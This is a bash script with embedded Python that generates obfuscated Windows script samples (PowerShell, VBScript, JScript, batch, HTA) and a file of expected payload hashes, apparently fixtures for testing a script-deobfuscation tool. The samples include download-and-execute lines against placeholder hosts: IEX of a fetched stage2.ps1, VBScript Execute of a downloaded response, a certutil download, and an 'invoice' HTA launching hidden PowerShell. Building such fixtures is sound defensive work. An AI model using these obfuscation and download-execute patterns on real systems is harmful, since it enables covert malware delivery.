#!/usr/bin/env bash
# Scripts written here: PowerShell with -EncodedCommand (Base64 of UTF-16LE) and FromBase64String
# (one payload encoded twice), VBScript with Chr() chains, JScript with string splitting and eval,
# batch with set-variable substrings and caret escapes, and an HTA. The project's own files,
# licence MIT OR Apache-2.0; they are inert (example.invalid, documentation addresses) and never
# run. expected.json holds, per script, its language and the SHA-256 of every payload encoded in
# it, computed with Python's base64 module from the very text written, so the analysis's decoder
# is checked against another one.
set -euo pipefail
out=${1:?usage: scripts.sh OUT_DIR}
python3 - "$out" <<'PY'
import base64, hashlib, json, os, sys

out = sys.argv[1]
expected = {}

def b64(data):
    return base64.b64encode(data).decode()

def payload(encoded, encoding, nested_in=None):
    data = base64.b64decode(encoded, validate=True)
    name = encoding if nested_in is None else f"{encoding} in {nested_in}"
    return {"encoding": name, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}

def write(name, language, text, payloads, encoding="utf-8"):
    with open(os.path.join(out, name), "wb") as handle:
        handle.write(text.encode(encoding))
    expected["scripts/" + name] = {"language": language, "decoded": payloads}

# PowerShell started with an encoded command that downloads and evaluates.
command = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/stage2.ps1')"
encoded = b64(command.encode("utf-16-le"))
write("ps-encoded.ps1", "powershell",
      "$ErrorActionPreference = 'SilentlyContinue'\r\n"
      f"Start-Process powershell.exe -ArgumentList '-NoProfile -WindowStyle Hidden -EncodedCommand {encoded}'\r\n",
      [payload(encoded, "powershell-encodedcommand")])

# PowerShell: a file in Base64, a script encoded twice, [char] casts, -join and backticks.
fake_pe = b"MZ" + b"\x90\x00" + b"This is not a program: a test payload for FCAS only." + bytes(range(16))
file_run = b64(fake_pe)
inner = b64(b"Start-Process notepad.exe -ArgumentList 'nested-stage-argument'")
outer = b64(f"Write-Host 'stage one'; $next = '{inner}'".encode())
write("ps-frombase64.ps1", "powershell",
      f"$bytes = [System.Convert]::FromBase64String('{file_run}')\n"
      "[IO.File]::WriteAllBytes(\"$env:TEMP\\fcas-test.bin\", $bytes)\n"
      f"$stage = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\"{outer}\"))\n"
      "$cmd = -join ([char]73, [char]69, [char]88)\n"
      "& (\"I`E`X\") $stage; n`e`w-o`b`j`e`c`t Net.WebClient\n",
      [payload(file_run, "base64"), payload(outer, "base64"), payload(inner, "base64", "base64")])

# VBScript: a URL built from Chr() calls, a shell object and an HTTP request.
url = "http://example.invalid/p.txt"
chain = " & ".join(f"Chr({ord(c)})" for c in url)
write("vbs-chr.vbs", "vbscript",
      "Option Explicit\r\nDim u, sh, req\r\n"
      f"u = {chain}\r\n"
      "Set sh = CreateObject(\"WScript.Shell\")\r\nSet req = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
      "req.Open \"GET\", u, False\r\nreq.Send\r\nExecute req.responseText\r\nMsgBox \"done\"\r\n",
      [])

# JScript: strings cut and glued, split and joined, fromCharCode, eval, a Base64 blob.
blob = b64(b"WScript.Echo('hello from a decoded JScript payload');")
write("js-split.js", "jscript",
      "var a = 'ev' + 'a' + 'l';\n"
      "var h = 'h|t|t|p|:|/|/|e|x|a|m|p|l|e|.|i|n|v|a|l|i|d'.split('|').join('');\n"
      "var w = String.fromCharCode(87, 83, 99, 114, 105, 112, 116);\n"
      "var p = 'Scr' + 'ipt' + '.Sh' + 'ell' + '' + 'x';\n"
      f"var data = \"{blob}\";\n"
      "var sh = new ActiveXObject(w + '.' + 'Shell');\n"
      "eval('var r = 1;');\n",
      [payload(blob, "base64")])

# Batch: a command spelled through substrings, caret escapes, certutil download.
write("bat-obf.bat", "batch",
      "@echo off\r\nset a=abcdefghijklmnopqrstuvwxyz\r\n"
      "set c=%a:~2,1%%a:~12,1%%a:~3,1%\r\n"
      "set e=%a:~4,1%%a:~2,1%%a:~7,1%%a:~14,1%\r\n"
      "c^m^d /c e^c^h^o hello\r\n"
      "certutil -urlcache -split -f http://192.0.2.1/x.txt %TEMP%\\x.txt\r\n"
      "goto end\r\n:end\r\n",
      [])

# HTA: VBScript in a page starting PowerShell with an encoded command.
hta_command = "Write-Output 'hta stage'; Start-Sleep 1"
hta_encoded = b64(hta_command.encode("utf-16-le"))
write("invoice.hta", "hta",
      "<html><head><title>Invoice</title>\n<HTA:APPLICATION ID=\"app\" WINDOWSTATE=\"minimize\"/>\n"
      "<script language=\"VBScript\">\nSet sh = CreateObject(\"WScript.Shell\")\n"
      f"sh.Run \"powershell -nop -w hidden -e {hta_encoded}\", 0\nself.close\n</script></head><body></body></html>\n",
      [payload(hta_encoded, "powershell-encodedcommand")])

# PowerShell saved as UTF-16LE with a byte order mark, as the ISE does.
wide_blob = b64(b"Get-Process | Out-File $env:TEMP\\processes-listing.txt -Encoding utf8")
write("ps-utf16.ps1", "powershell", "\ufeff$x = '" + wide_blob + "'\r\nWrite-Host $x\r\n",
      [payload(wide_blob, "base64")], encoding="utf-16-le")

with open(os.path.join(out, "expected.json"), "w") as handle:
    json.dump({"decoder": "python base64", "files": expected}, handle, indent=1, sort_keys=True)
    handle.write("\n")
PY
